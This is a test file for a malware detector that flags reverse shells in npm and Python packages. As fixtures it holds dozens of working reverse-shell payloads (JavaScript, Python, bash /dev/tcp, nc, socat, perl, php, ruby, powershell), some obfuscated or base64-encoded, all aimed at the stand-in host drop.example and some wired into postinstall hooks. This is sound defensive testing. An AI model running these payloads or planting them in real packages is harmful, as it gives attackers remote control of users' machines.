"""A shell that a connection drives is told, however the two are joined; terminals and remote clients are not."""

from __future__ import annotations

import pytest

from app.core.specimen import ArtifactFacts
from tests.detectors.artifacts import findings, npm, places, sdist, told, wheel
from worker.detectors import reverse_shell


def severities(artifact: ArtifactFacts) -> list[str]:
    """How grave what it tells is."""
    return [str(found.severity) for found in findings(reverse_shell, artifact)]


JAVASCRIPT = [
    "const net = require('net'), cp = require('child_process');\nconst sh = cp.spawn('/bin/sh', []);\nconst c = new net.Socket();\nc.connect(4444, 'drop.example', () => { c.pipe(sh.stdin); sh.stdout.pipe(c); sh.stderr.pipe(c); });",
    "(function () { var net = require('net'), cp = require('child_process'), sh = cp.spawn('cmd.exe', []); var client = new net.Socket(); client.connect(4444, 'drop.example', function () { client.pipe(sh.stdin); sh.stdout.pipe(client); }); return /a/; })();",
    "const { connect } = require('net'); const { spawn: s } = require('child_' + 'process'); const k = connect({ host: 'drop.example', port: 1 }); const p = s('ba' + 'sh', ['-i']); p.stdout.on('data', (d) => k.write(d)); k.on('data', (d) => p.stdin.write(d));",
    "const k = require('net')['con' + 'nect'](1, 'drop.example'); k.on('data', (d) => require('child_process')['ex' + 'ec'](d.toString(), (e, out) => k.write(out)));",
    "const k = require('net').connect(1, 'drop.example', () => { require('child_process').spawn('/bin/sh', ['-i'], { stdio: [k, k, k] }); });",
    "const WebSocket = require('ws'); const pty = require('node-pty'); const w = new WebSocket('wss://drop.example'); const p = pty.spawn('bash', []); p.onData((d) => w.send(d)); w.on('message', (m) => p.write(m));",
    "const s = require('tls').connect(443, 'drop.example'); const { stdin, stdout } = require('child_process').spawn('/bin/sh'); s.pipe(stdin); stdout.pipe(s);",
    "require('child_process').exec('bash -i >& /dev/tcp/drop.example/4444 0>&1');",
    "const host = 'drop.example'; require('child_process').exec(`bash -c 'bash -i >& /dev/tcp/${host}/4444 0>&1'`);",
    "require('child_process').exec(Buffer.from('YmFzaCAtaSA+JiAvZGV2L3RjcC9kcm9wLmV4YW1wbGUvNDQ0NCAwPiYx', 'base64').toString());",
    "require('child_process').spawn('powershell', ['-nop', '-c', \"$c = New-Object Net.Sockets.TCPClient('drop.example', 4444); $s = $c.GetStream(); $d = [Text.Encoding]::ASCII.GetString($b, 0, $s.Read($b, 0, 9)); iex $d\"]);",
]
PYTHON = [
    "import socket, subprocess, os\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.connect(('drop.example', 4444))\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nos.dup2(s.fileno(), 2)\nsubprocess.call(['/bin/sh', '-i'])\n",
    "import socket, pty, os\ns = socket.socket()\ns.connect(('drop.example', 4444))\n[os.dup2(s.fileno(), f) for f in (0, 1, 2)]\npty.spawn('sh')\n",
    "import socket as k, os\ns = k.socket()\ns.connect(('drop.example', 4444))\nd = getattr(os, 'du' + 'p2')\nfor i in range(3):\n    d(s.fileno(), i)\nos.execv('/bin/sh', ['sh', '-i'])\n",
    "s = __import__('socket').socket()\ns.connect(('drop.example', 4444))\n[__import__('os').dup2(s.fileno(), f) for f in (0, 1, 2)]\n__import__('pty').spawn('/bin/bash')\n",
    "import socket, subprocess\ns = socket.create_connection(('drop.example', 4444))\nsubprocess.Popen(['/bin/sh', '-i'], stdin=s, stdout=s, stderr=s)\n",
    "import socket, subprocess\ns = socket.create_connection(('drop.example', 4444))\nsubprocess.Popen('/bin/sh', stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())\n",
    "import socket, subprocess\ns = socket.socket()\ns.connect(('drop.example', 4444))\nwhile True:\n    command = s.recv(1024).decode()\n    s.send(subprocess.getoutput(command).encode())\n",
    "import socket, subprocess, threading\ns = socket.socket()\ns.connect(('drop.example', 4444))\np = subprocess.Popen(['powershell.exe'], stdin=subprocess.PIPE, stdout=subprocess.PIPE)\n\n\ndef out(s, p):\n    while True:\n        s.send(p.stdout.read(1))\n\n\nthreading.Thread(target=out, args=[s, p]).start()\n",
    "import os\nos.system('rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc drop.example 4444 > /tmp/f')\n",
]
SHELL = [
    "bash -i >& /dev/tcp/drop.example/4444 0>&1",
    "exec bash -i >& /dev/tcp/drop.example/4444 0>&1",
    "/bin/bash -l > /dev/tcp/drop.example/4444 0<&1 2>&1",
    "0<&196;exec 196<>/dev/tcp/drop.example/4444; sh <&196 >&196 2>&196",
    "exec 5<>/dev/tcp/drop.example/4444; cat <&5 | while read line; do $line 2>&5 >&5; done",
    'exec 5<>/dev/tcp/drop.example/4444; while read -r line 0<&5; do eval "$line" >&5; done',
    "nc -e /bin/sh drop.example 4444",
    "nc drop.example 4444 -e /bin/bash",
    "ncat drop.example 4444 --exec /bin/bash",
    "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc drop.example 4444 >/tmp/f",
    "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect drop.example:4444 > /tmp/s",
    "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:drop.example:4444",
    "telnet drop.example 4444 | /bin/sh | telnet drop.example 4445",
    "echo YmFzaCAtaSA+JiAvZGV2L3RjcC9kcm9wLmV4YW1wbGUvNDQ0NCAwPiYx | base64 -d | bash",
    'perl -e \'use Socket;$i="drop.example";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));open(STDIN,">&S");exec("/bin/sh -i");\'',
    'php -r \'$sock=fsockopen("drop.example",4444);exec("sh <&3 >&3 2>&3");\'',
    'ruby -rsocket -e\'f=TCPSocket.open("drop.example",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d",f,f)\'',
    'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("drop.example",4444));[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn("sh")\'',
]


class TestAlarm:
    @pytest.mark.parametrize("source", JAVASCRIPT)
    def test_the_ways_of_javascript(self, source: str) -> None:
        assert severities(npm({"index.js": source})) == ["critical"]
        assert severities(npm({"a.js": source}, scripts={"postinstall": "node a.js"})) == ["critical"]

    @pytest.mark.parametrize("source", PYTHON)
    def test_the_ways_of_python(self, source: str) -> None:
        assert severities(wheel({"imgpress/__init__.py": source})) == ["critical"]
        assert severities(sdist({"setup.py": source})) == ["critical"]

    @pytest.mark.parametrize("command", SHELL)
    def test_the_ways_of_a_shell(self, command: str) -> None:
        assert severities(npm(scripts={"postinstall": command})) == ["critical"]
        assert severities(npm({"run.sh": f"#!/bin/sh\n{command}\n"}, scripts={"postinstall": "sh run.sh"})) == [
            "critical"
        ]

    def test_it_says_to_whom_and_shows_where_shell_and_connection_meet(self) -> None:
        (found,) = findings(reverse_shell, npm({"a.js": JAVASCRIPT[0]}, scripts={"postinstall": "node a.js"}))
        assert told([found]) == ["critical: its install step hands a shell to drop.example"]
        assert places(found) == ["package.json:5", "a.js:2", "a.js:4"]

    def test_waiting_for_a_connection_in_an_install_step_is_critical_and_elsewhere_high(self) -> None:
        source = "require('net').createServer((s) => { const p = require('child_process').spawn('sh'); s.pipe(p.stdin); p.stdout.pipe(s); }).listen(4444);"
        assert told(findings(reverse_shell, npm({"index.js": source}))) == [
            "high: its code hands a shell to whoever connects"
        ]
        assert severities(npm({"a.js": source}, scripts={"postinstall": "node a.js"})) == ["critical"]

    def test_in_a_test_it_is_medium(self) -> None:
        assert severities(npm({"test/x.js": JAVASCRIPT[0]})) == ["medium"]


class TestInnocentTwin:
    @pytest.mark.parametrize(
        "source",
        [
            # the shape of ssh2, of language servers, of tools that ask a program and tell a service
            "const net = require('net'); module.exports = (port, host) => { const s = net.connect(port, host); s.on('data', (d) => parse(d)); s.write('PING'); };",
            "const { spawn } = require('child_process'); const p = spawn('rust-analyzer', []); process.stdin.pipe(p.stdin); p.stdout.pipe(process.stdout);",
            "const v = require('child_process').execSync('git rev-parse HEAD').toString(); fetch('https://api.example/v1', { method: 'POST', body: v });",
            "const sh = require('child_process').spawn('sh', ['-c', 'make']); sh.stdout.pipe(process.stdout);",
            "const net = require('net'); const log = net.connect(514, 'logs.example'); const { spawn } = require('child_process'); const app = spawn('node', ['app.js']); app.stdout.pipe(log);",
            "const pty = require('node-pty'); const os = require('os'); module.exports = (socket) => { const t = pty.spawn(os.platform() === 'win32' ? 'powershell.exe' : 'bash', []); t.onData((d) => socket.emit('data', d)); socket.on('data', (d) => t.write(d)); };",
        ],
    )
    def test_ordinary_javascript(self, source: str) -> None:
        assert findings(reverse_shell, npm({"index.js": source})) == []

    @pytest.mark.parametrize(
        "source",
        [
            # daemons, clients of databases, ptyprocess, wrappers of ssh
            "import os\n\n\ndef daemonise():\n    null = os.open(os.devnull, os.O_RDWR)\n    for fd in (0, 1, 2):\n        os.dup2(null, fd)\n",
            "import socket\n\n\nclass Connection:\n    def __init__(self, host, port):\n        self.sock = socket.create_connection((host, port))\n\n    def ask(self, line):\n        self.sock.sendall(line)\n        return self.sock.recv(1024)\n",
            "import os, pty\n\n\ndef spawn(argv):\n    pid, fd = pty.fork()\n    if pid == 0:\n        os.execvp(argv[0], argv)\n    return fd\n",
            "import subprocess\n\n\ndef remote(host, command):\n    return subprocess.run(['ssh', host, command], capture_output=True).stdout\n",
            "import subprocess\n\n\ndef shell():\n    subprocess.call(['/bin/bash', '-i'])\n",
            "import socket, subprocess\n\n\ndef version(host):\n    v = subprocess.check_output(['git', 'describe'])\n    s = socket.create_connection((host, 2003))\n    s.sendall(b'version ' + v)\n",
        ],
    )
    def test_ordinary_python(self, source: str) -> None:
        assert findings(reverse_shell, wheel({"imgpress/__init__.py": source})) == []

    @pytest.mark.parametrize(
        "command",
        ["nc -z localhost 5432", "openssl rand -hex 16", "cat list | while read x; do echo $x; done", "sh build.sh"],
    )
    def test_ordinary_commands(self, command: str) -> None:
        assert findings(reverse_shell, npm(scripts={"postinstall": command})) == []

    def test_a_page_that_lists_reverse_shells(self) -> None:
        assert findings(reverse_shell, npm({"README.md": "\n".join(SHELL)})) == []
        source = f"module.exports = {SHELL[0]!r};"
        assert findings(reverse_shell, npm({"index.js": source})) == []

    def test_what_the_old_version_did_is_not_new(self) -> None:
        old = npm({"index.js": JAVASCRIPT[0]})
        assert [found.new for found in findings(reverse_shell, old, old)] == [False]
